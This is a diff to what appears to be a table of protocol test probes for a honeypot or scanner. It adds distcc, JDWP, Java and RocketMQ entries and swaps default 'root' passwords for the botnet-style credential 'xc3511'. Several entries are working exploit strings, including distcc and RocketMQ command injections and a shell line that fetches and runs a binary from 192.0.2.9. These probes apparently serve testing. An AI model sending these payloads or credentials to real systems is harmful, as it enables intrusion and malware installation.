@@ -28,13 +28,17 @@ from eudaemon.protocols.snmp import messages  # noqa: E402
 from eudaemon.protocols.snmp.written import EXTEND  # noqa: E402
 from eudaemon.wire import ber  # noqa: E402
 from protocols import mongo_client, mssql_client, mysql_client, postgres_client, rdp_client, smb_client  # noqa: E402
+from protocols import test_distcc as distcc  # noqa: E402
 from protocols import test_elasticsearch as elastic  # noqa: E402
 from protocols import test_git as git_words  # noqa: E402
 from protocols import test_ipp as ipp  # noqa: E402
+from protocols import test_java as java  # noqa: E402
+from protocols import test_jdwp as jdwp  # noqa: E402
 from protocols import test_modbus as modbus  # noqa: E402
 from protocols import test_netbios as netbios  # noqa: E402
 from protocols import test_ntp as ntp  # noqa: E402
 from protocols import test_pptp as pptp  # noqa: E402
+from protocols import test_rocketmq as rocketmq  # noqa: E402
 from protocols import test_s7 as s7  # noqa: E402
 from protocols import test_smartinstall as smartinstall  # noqa: E402
 from protocols import test_snmp as snmp  # noqa: E402
@@ -178,6 +182,7 @@ SNMP = (
         community=b"private",
     ),
 )
+# One address gets in with one password for a user, wherever: telnet's and SSH's is xc3511.
 ENTRIES: dict[str, Entry] = {
     "activemq": asks(greeted=b""),
     "adb": asks((CONNECT, b"CNXN"), (frame(b"OPEN", 1, 0, b"shell:\0"), b"OKAY")),
@@ -188,6 +193,7 @@ ENTRIES: dict[str, Entry] = {
         (b"ftp -s:o&ver\r\n", b"Version"),
         greeted=b">",
     ),
+    "distcc": asks((distcc.attack(b"cd /tmp;wget http://192.0.2.9/x;id"), b"DOTO")),
     "dns": asks(b"\0\x1e\0\x06\x01\0\0\x01\0\0\0\0\0\0\x07version\x04bind\0\0\x10\0\x03"),
     "docker": asks((GET.replace(b"/ ", b"/version ", 1), b"ApiVersion")),
     "elasticsearch": asks(
@@ -197,14 +203,16 @@ ENTRIES: dict[str, Entry] = {
         (elastic.request("PUT", "/read_me/_doc/1", json.dumps({"note": elastic.NOTE})), b"read_me"),
     ),
     "epmap": asks(smb_client.BIND_ALIVE),
-    "ftp": asks((b"USER root\r\n", b"331"), (b"PASS root\r\n", b"230"), greeted=b"220"),
+    "ftp": asks((b"USER root\r\n", b"331"), (b"PASS xc3511\r\n", b"230"), greeted=b"220"),
     "git": git,
     "http": asks(GET),
-    "imap": asks((b"1 LOGIN root root\r\n", b"1 OK"), (b"2 SELECT INBOX\r\n", b"2 OK"), greeted=b"* OK"),
+    "imap": asks((b"1 LOGIN root xc3511\r\n", b"1 OK"), (b"2 SELECT INBOX\r\n", b"2 OK"), greeted=b"* OK"),
     "ipp": asks(
         (ipp.posted(ipp.message(0x000B)), b"printer-name"),
         (ipp.posted(ipp.message(0x0002, data=ipp.PPD.encode())), b"job-id"),
     ),
+    "java": asks((java.HELLO, b"N\0"), (java.US + java.call(1), b"String;")),
+    "jdwp": asks((jdwp.HANDSHAKE, jdwp.HANDSHAKE), jdwp.packet(1, 7), jdwp.packet(1, 4)),
     "jenkins": asks(GET),
     "kubelet": kubelet,
     "ldap": asks(b"\x30\x0c\2\1\1\x60\x07\2\1\3\4\0\x80\0"),
@@ -216,12 +224,12 @@ ENTRIES: dict[str, Entry] = {
     "mqtt": asks(b"\x10\x10\0\x04MQTT\x04\x02\0\x1e\0\x04nmap", b"\x82\x06\0\x01\0\x01#\0"),
     "mssql": asks(mssql_client.packets(0x12, WITHOUT_TLS), mssql_client.login()),
     "mysql": mysql,
-    "pop3": asks((b"USER root\r\n", b"+OK"), (b"PASS root\r\n", b"+OK"), greeted=b"+OK"),
+    "pop3": asks((b"USER root\r\n", b"+OK"), (b"PASS xc3511\r\n", b"+OK"), greeted=b"+OK"),
     "postgres": asks((postgres_client.started(), b"R"), (postgres_client.message(b"p", b"postgres\0"), b"Z\0\0\0\5")),
     "pptp": asks(pptp.START, pptp.CALL),
     "printer": asks(b"\x1b%-12345X@PJL INFO ID\r\n"),
     "proxy": asks(
-        (b"GET http://192.0.2.9/ HTTP/1.1\r\nProxy-Authorization: Basic cm9vdDpyb290\r\n\r\n", b"X-Squid-Error")
+        (b"GET http://192.0.2.9/ HTTP/1.1\r\nProxy-Authorization: Basic cm9vdDp4YzM1MTE=\r\n\r\n", b"X-Squid-Error")
     ),
     "rdp": asks(
         rdp_client.request(b"mstshash=a", None),
@@ -230,6 +238,7 @@ ENTRIES: dict[str, Entry] = {
         rdp_client.join(1003),
     ),
     "redis": asks(b"*1\r\n$4\r\nINFO\r\n"),
+    "rocketmq": asks((rocketmq.frame(25, b"rocketmqHome=-c $@|sh . echo id;"), b"opaque")),
     "rtsp": asks((b"OPTIONS * RTSP/1.0\r\nCSeq: 1\r\n\r\n", b"RTSP/1.0")),
     "s7": asks(s7.CONNECT, s7.SETUP, bytes.fromhex(s7.LIST.format(0x11)), s7.job("29000000000009505f50524f4752414d")),
     "sh": asks((b"cd /tmp;wget http://192.0.2.9/x;chmod +x x;id\n", b"uid=")),
